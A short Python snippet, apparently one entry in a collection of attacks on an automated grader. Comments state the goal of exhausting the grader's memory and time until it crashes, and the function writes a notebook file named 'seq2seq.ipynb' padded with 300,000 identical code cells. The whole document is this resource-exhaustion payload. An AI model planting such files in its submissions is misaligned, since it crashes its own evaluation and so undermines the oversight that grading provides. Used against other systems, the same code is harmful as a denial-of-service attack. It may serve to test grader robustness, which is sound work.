# aim: the grader's memory and time, by more cells than anybody reads
# pays: crash
# weak: makes an object of each
import json


def attack(folder, release, marker):
    cell = '{"cell_type":"code","metadata":{},"source":"' + "x=1;" * 3 + '","outputs":[]}'
    cells = ",".join([cell] * 300_000)
    tree = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}})
    (folder / "seq2seq.ipynb").write_text(f'{tree[:-1]}, "cells": [{cells}]}}')
